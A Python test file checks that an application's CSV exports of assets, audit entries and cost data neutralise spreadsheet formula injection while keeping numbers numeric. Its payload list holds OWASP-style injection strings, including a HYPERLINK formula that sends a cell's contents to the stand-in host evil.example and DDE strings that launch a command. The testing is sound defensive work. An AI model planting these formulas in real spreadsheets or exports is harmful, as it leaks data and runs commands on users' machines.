"""Spreadsheet formula injection: every CSV export neutralises what a spreadsheet would run.

Values from OWASP's CSV-injection page and the probe (issue 10 item 6) go in through the
normal API; every export route must give them back as text (prefixed with ``'``) while
real numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient

from rengo.core import audit, csv_safe
from rengo.core.permissions import SYSTEM, Principal, Role
from rengo.core.runtime import Runtime
from rengo.finops import service
from rengo.finops.allocation import Rule
from rengo.finops.synthetic import generate
from tests.helpers import JOINT, WARD_A, asset_fields, bearer

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def _assert_neutralised(rows: list[list[str]], payload: str) -> None:
    flat = [cell for row in rows for cell in row]
    assert "'" + payload in flat, f"{payload!r} not neutralised in {flat[:40]}"
    assert payload not in flat


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("@A1", "'@A1"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("1e-3", "1e-3"),
        ("-1,234.5", "-1,234.5"),
        ("plain", "plain"),
        (42, 42),
        (-7.5, -7.5),
    ],
)
def test_neutralise_keeps_numbers_numeric(value: object, expected: object) -> None:
    assert csv_safe.neutralise(value) == expected
    if isinstance(value, str):
        assert csv_safe.restore(str(csv_safe.neutralise(value))) == value


def test_asset_export_neutralises_and_round_trips(
    client: TestClient, tokens: Callable[..., str]
) -> None:
    headers = bearer(tokens(WARD_A, "ward_it"))
    stored = []
    for i, payload in enumerate(PAYLOADS):
        body = asset_fields(
            name=f"asset {i}", department=payload, owner="@owner", personal_data_count=-0 + i
        )
        created = client.post("/api/v1/assets", json=body, headers=headers)
        assert created.status_code == 201, created.text
        stored.append(created.json()["department"])  # the API strips surrounding whitespace
    exported = client.get("/api/v1/assets/export.csv?lang=en", headers=headers)
    assert exported.status_code == 200
    rows = _cells(exported.text)
    for payload in stored:
        _assert_neutralised(rows, payload)
    assert "'@owner" in rows[1]
    count_column = rows[0].index(
        next(h for h in rows[0] if "personal" in h.lower() and "count" in h.lower())
    )
    assert sorted(r[count_column] for r in rows[1:]) == [str(i) for i in range(len(PAYLOADS))]
    # The exported file imports back to the very same values (the quote is taken off).
    back = client.post(
        "/api/v1/assets/import",
        files={"file": ("assets.csv", exported.content, "text/csv")},
        headers=headers,
    )
    assert back.status_code == 200, back.text
    listed = client.get("/api/v1/assets?per_page=100", headers=headers).json()["items"]
    assert sorted(a["department"] for a in listed) == sorted(stored)


def test_audit_export_neutralises(
    env: Runtime, client: TestClient, tokens: Callable[..., str]
) -> None:
    with env.db.session() as session:
        for payload in PAYLOADS:
            who = Principal(WARD_A, Role.WARD_IT, username=payload)
            audit.record(session, who, "asset.update", object_type="asset", object_id=payload)
    exported = client.get("/api/v1/audit/export.csv", headers=bearer(tokens(JOINT, "admin")))
    assert exported.status_code == 200
    rows = _cells(exported.text)
    for payload in PAYLOADS:
        _assert_neutralised(rows, payload)


def test_finops_costs_export_neutralises(
    env: Runtime, client: TestClient, tokens: Callable[..., str], tmp_path: Path
) -> None:
    tables, _plan = generate(
        end=date(2025, 9, 30), months=1, ward_codes=[WARD_A], systems=["koseki"]
    )
    files = []
    for n, (_provider, _month, table) in enumerate(tables):
        column = table.column_names.index("ServiceName")
        names = pc.if_else(
            pc.equal(pc.bit_wise_and(pa.array(range(table.num_rows)), 1), 0),
            PAYLOADS[n % len(PAYLOADS)],
            table.column("ServiceName"),
        )
        path = tmp_path / f"focus-{n}.parquet"
        pq.write_table(table.set_column(column, "ServiceName", names), path)
        files.append(path)
    with env.db.session() as session:
        service.add_rule(
            session, SYSTEM, Rule(0, 10, "tag", "*", tag_key="ward", ward_from_value=True)
        )
        service.ingest(session, SYSTEM, env.data_dir, env.settings, files)
    exported = client.get(
        "/api/v1/finops/costs.csv",
        params={"group_by": "service", "granularity": "total", "start": "2025-09-01"},
        headers=bearer(tokens(JOINT, "admin")),
    )
    assert exported.status_code == 200, exported.text
    rows = _cells(exported.text)
    _assert_neutralised(rows, PAYLOADS[0])
    costs = [r[-1] for r in rows[1:]]
    assert costs and all(not c.startswith("'") for c in costs)
    assert all(float(c) == float(c) for c in costs)  # numbers, not quoted text
